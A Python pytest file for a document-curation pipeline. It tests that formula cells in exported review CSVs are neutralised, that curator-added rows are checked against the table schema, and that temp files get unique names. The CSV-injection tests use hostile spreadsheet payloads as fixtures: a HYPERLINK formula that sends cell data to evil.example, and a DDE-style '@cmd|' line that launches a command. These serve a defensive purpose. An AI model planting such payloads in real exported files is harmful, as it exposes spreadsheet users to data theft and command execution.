"""Issue 15: formula cells neutralised in review files (10); curator-added rows checked against the
table schema at import and skipped, never fatal, at rebuild (5); unique temporary names (18)."""

from __future__ import annotations

import json

import pytest
from fixtures.curation.support import DOC1, build_table, decide, eid, read_review, write_sheet

from pipeline.curation import apply_decisions, export_review, import_review
from pipeline.curation.csvio import neutralise, read_sheet, restore
from pipeline.curation.review import write_review_csv
from pipeline.table import refresh_derived, validate

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


# -- 10: CSV injection ---------------------------------------------------------------------
@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "'=already", "''@x",
                                  "'plain quote", "plain", "", "1-2", "grade >=3", "= spaced"])
def test_neutralise_then_restore_is_exact(text):
    safe = neutralise(text)
    assert restore(safe) == text
    assert safe[:1] not in ("=", "+", "-", "@", "\t", "\r")


def _with_formula_sentence(spec):
    if spec.get("field") == "response" and spec.get("value") == "CR" and spec["doc"] == DOC1:
        spec = dict(spec)
        spec["sentence"] = FORMULA + " the patient achieved CR"
        spec["phrase"] = "CR"
    return spec


def test_review_csv_cells_are_neutralised_and_read_back_exactly(tmp_path):
    """Regression: document text starting with '=' reached the review CSV as a live formula."""
    corpus = tmp_path / "corpus"
    table = build_table(_with_formula_sentence)
    path = export_review(corpus, table)[0]
    raw = read_review(path)  # as a spreadsheet would see the cells
    target = eid(table, "response", "CR")
    cell = next(r for r in raw if r["evidence_id"] == target)["sentence"]
    assert cell == "'" + FORMULA + " the patient achieved CR"
    for row in raw:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
    sheet = read_sheet(path, ("evidence_id", "decision"))
    back = next(r for _, r in sheet.rows if r["evidence_id"] == target)
    assert back["sentence"] == FORMULA + " the patient achieved CR"
    # the read-only sentence column round-trips: accepting the row is not refused as "edited"
    rows = sheet.rows
    decided = [dict(r) for _, r in rows]
    decide(decided, target, "accept")
    write_review_csv(path, decided)
    report = import_review(path, corpus, long_df=table)
    assert report.ok, str(report)
    assert [d.evidence_id for d in report.applied] == [target]


def test_rejected_rows_file_is_neutralised(tmp_path):
    corpus = tmp_path / "corpus"
    table = build_table()
    path = export_review(corpus, table)[0]
    rows = read_review(path)
    decide(rows, eid(table, "response", "CR"), "reject", note="@cmd|' /C calc'!A0")
    rows[0]["corrected_value"] = "=1+1"  # with decision reject: an error, so the row is kept
    decide(rows, rows[0]["evidence_id"], "reject", corrected="=1+1")
    write_sheet(path, rows)
    report = import_review(path, corpus, long_df=table)
    assert report.rejected_path is not None
    raw = read_review(report.rejected_path)
    assert raw and raw[0]["corrected_value"] == "'=1+1"
    assert read_sheet(report.rejected_path, ("evidence_id",)).rows[0][1]["corrected_value"] == "=1+1"


def test_review_writer_does_not_use_a_fixed_temporary_name(tmp_path):
    """Regression (18): writers used NAME.tmp, so two writers (or a stale file) collided."""
    other = tmp_path / "review-x.tmp"
    other.write_text("another writer's file")
    write_review_csv(tmp_path / "review-x.csv", [{"evidence_id": "ev-1", "decision": ""}])
    assert other.read_text() == "another writer's file"
    assert [p.name for p in tmp_path.iterdir() if p.suffix == ".tmp"] == ["review-x.tmp"]


# -- 5: added rows are checked against the table's schema -------------------------------------
SENTENCE = "Then, the patient remained in complete remission (CR) for four months before a relapse."


def _add(rows, **cells):
    row = {k: "" for k in rows[0]}
    row.update(decision="add", curator="dana", doc_id=DOC1, field="response", value="CR", sentence=SENTENCE)
    row.update(cells)
    rows.append(row)


@pytest.mark.parametrize(("cells", "column", "found"), [
    ({"subject": "Patient one"}, "subject", "Patient one"),
    ({"char_start": "-3", "char_end": "5"}, "char_start", "-3"),
    ({"char_start": "40", "char_end": "10"}, "char_end", "40"),
    ({"char_start": "4"}, "char_end", "4"),
    ({"doc_id": "10.9999/not.in.corpus"}, "doc_id", "not in"),
])
def test_an_add_the_table_would_refuse_is_refused_at_import(tmp_path, cells, column, found):
    """Regression: such rows were recorded, and every later build failed on them."""
    corpus = tmp_path / "corpus"
    table = build_table()
    path = export_review(corpus, table)[0]
    rows = read_review(path)
    _add(rows, **cells)
    _add(rows, field="cell_source", value="allogeneic")  # a valid add in the same file still goes in
    write_sheet(path, rows)
    report = import_review(path, corpus, long_df=table)
    assert len(report.errors) == 1, str(report)
    err = report.errors[0]
    assert err.column == column and found.split()[0] in err.message + str(cells), str(err)
    assert [d.judged["field"] for d in report.applied] == ["cell_source"]


def test_an_add_that_cannot_be_applied_is_reported_and_skipped_at_rebuild(tmp_path):
    """A log written by an earlier version may hold such adds: the build skips them, never fails."""
    corpus = tmp_path / "corpus"
    table = build_table()
    log = corpus / "curation" / "decisions.jsonl"
    log.parent.mkdir(parents=True)
    bad = [("Patient one", DOC1, None, None), ("P1", DOC1, -3, 5), ("P1", DOC1, 40, 10), ("P1", "10.9/phantom", None, None)]
    lines = []
    for k, (subject, doc, start, end) in enumerate(bad):
        lines.append({"evidence_id": f"cur-{k:016x}", "decision": "add", "curator": "dana", "at": "2026-01-01T00:00:00+00:00",
                      "fingerprint": "0" * 16, "judged": {"doc_id": doc, "subject": subject, "field": "response",
                      "value": "CR", "sentence": SENTENCE, "char_start": start, "char_end": end},
                      "corrected_value": None, "note": None, "source": f"old.csv:{k + 2}", "extra": {}})
    log.write_text("".join(json.dumps(x) + "\n" for x in lines), encoding="utf-8")
    applied, summary = apply_decisions(table, corpus, known_docs={DOC1, "10.9999/example.2"})
    assert len(summary.errors) == 4, summary.errors
    assert any("Patient one" in e for e in summary.errors)
    assert any("not in the corpus" in e for e in summary.errors)
    assert "curator_added" not in set(applied["status"]) and len(applied) == len(table)
    assert not applied["evidence_id"].astype(str).str.startswith("cur-").any()
    # a valid add next to them is applied
    good = dict(lines[1], evidence_id="cur-" + "f" * 16)
    good["judged"] = dict(good["judged"], subject="P1", char_start=None, char_end=None)
    with log.open("a", encoding="utf-8") as fh:
        fh.write(json.dumps(good) + "\n")
    applied, summary = apply_decisions(table, corpus, known_docs={DOC1})
    assert len(summary.errors) == 4 and list(applied["status"]).count("curator_added") == 1
    row = refresh_derived(applied[applied["status"] == "curator_added"])
    validate(row, table="the added row")  # passes the schema the build applies
